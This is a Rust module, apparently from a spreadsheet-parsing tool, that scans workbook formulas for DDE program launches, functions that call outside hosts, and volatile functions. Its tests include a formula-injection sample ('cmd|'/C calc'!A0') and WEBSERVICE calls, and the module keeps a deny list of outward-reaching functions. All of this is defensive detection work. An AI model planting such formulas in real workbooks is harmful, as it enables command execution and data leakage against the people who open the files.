//! What a formula could do beside reckoning: reach out of the workbook, start a program, or change with the day. Nothing
//! is ever evaluated here.

use quick_xml::events::BytesStart;

use crate::workbook::read::{
    grid::{Area, area},
    markup::attribute,
};

/// Functions that fetch from, or send to, the world outside.
const OUTSIDE: [&str; 22] = [
    "WEBSERVICE",
    "HYPERLINK",
    "IMPORTXML",
    "IMPORTDATA",
    "IMPORTRANGE",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMAGE",
    "RTD",
    "CALL",
    "REGISTER.ID",
    "REGISTER",
    "EXEC",
    "SQL.REQUEST",
    "FILTERXML",
    "STOCKHISTORY",
    "CUBEVALUE",
    "CUBEMEMBER",
    "CUBESET",
    "GOOGLEFINANCE",
    "GOOGLETRANSLATE",
    "TRANSLATE",
];
/// Functions whose value is another one tomorrow, or after any change of the workbook.
const CHANGING: [&str; 10] =
    ["TODAY", "NOW", "RAND", "RANDBETWEEN", "RANDARRAY", "OFFSET", "INDIRECT", "CELL", "INFO", "RAND.NV"];

/// What a formula could do.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Dangers {
    /// Start a program by way of dynamic data exchange.
    pub starts: bool,
    /// Fetch from or send to the world outside.
    pub reaches: bool,
    /// Change by itself.
    pub changes: bool,
}

impl Dangers {
    /// Whether there is any.
    pub(crate) fn any(self) -> bool {
        self.starts || self.reaches || self.changes
    }
}

/// The range that a formula fills beyond its own cell, if its element says so (ECMA-376 part 1, 18.3.1.40).
pub(crate) fn fills(element: &BytesStart<'_>) -> Option<Area> {
    if !matches!(attribute(element, "t").as_deref(), Some("array" | "dataTable")) {
        return None;
    }
    attribute(element, "ref").as_deref().and_then(area).filter(|it| it.first != it.last)
}

/// Looks through a formula as it is written in XML or in plain text.
pub(crate) fn dangers(written: &str) -> Dangers {
    let mut found = Dangers::default();
    if !written.contains(['(', '|']) {
        return found;
    }
    let plain = written.replace("&quot;", "\"").replace("&apos;", "'").replace("&amp;", "&");
    // Words in quotation marks are text; names in apostrophes are sheets and the topics of exchanges.
    let (mut bare, mut text) = (String::with_capacity(plain.len()), false);
    for c in plain.chars() {
        if c == '"' {
            text = !text;
        }
        if !text {
            bare.push(c.to_ascii_uppercase());
        }
    }
    // `application|topic!item`
    if let Some((_, topic)) = bare.split_once('|') {
        found.starts = topic.contains('!');
    }
    let mut rest = bare.as_str();
    while let Some((before, after)) = rest.split_once('(') {
        rest = after;
        let from =
            before.rfind(|c: char| !c.is_alphanumeric() && c != '.' && c != '_').map_or(0, |it| it + 1);
        let name = before.get(from..).unwrap_or_default();
        let name = ["_XLFN.", "_XLWS.", "_XLUDF.", "COM.MICROSOFT.", "COM.SUN.STAR."]
            .iter()
            .fold(name, |name, it| name.strip_prefix(it).unwrap_or(name));
        found.starts |= name == "DDE";
        found.changes |= CHANGING.contains(&name);
        // A link to a place in the same workbook is not one to the world.
        let inside = name == "HYPERLINK" && is_place_inside(&plain);
        found.reaches |= OUTSIDE.contains(&name) && !inside;
    }
    found
}

fn is_place_inside(formula: &str) -> bool {
    formula.split_once('"').is_some_and(|(_, it)| it.starts_with('#')) && !formula.contains("://")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_reaches_out_is_told_from_what_reckons() {
        let told = |formula: &str| {
            let it = dangers(formula);
            (it.starts, it.reaches, it.changes)
        };
        for harmless in [
            "SUM(A1:A3)",
            "\"TODAY() WEBSERVICE(\"&amp;A1",
            "IF(A1=1,\"a|b!\",2)",
            "HYPERLINK(\"#Lists!A1\",\"go\")",
        ] {
            assert_eq!(told(harmless), (false, false, false), "{harmless}");
        }
        assert_eq!(told("cmd|'/C calc'!A0"), (true, false, false));
        assert_eq!(told("DDE(\"soffice\";\"a\";\"b\")"), (true, false, false));
        assert_eq!(told("_xlfn.WEBSERVICE(\"http://a.example/?\"&amp;A2)"), (false, true, false));
        assert_eq!(told("HYPERLINK(&quot;http://a.example&quot;,&quot;Yes&quot;)"), (false, true, false));
        assert_eq!(told("IF(TODAY()&lt;DATE(2026,6,1),\"Yes\",\"No\")"), (false, false, true));
    }
}
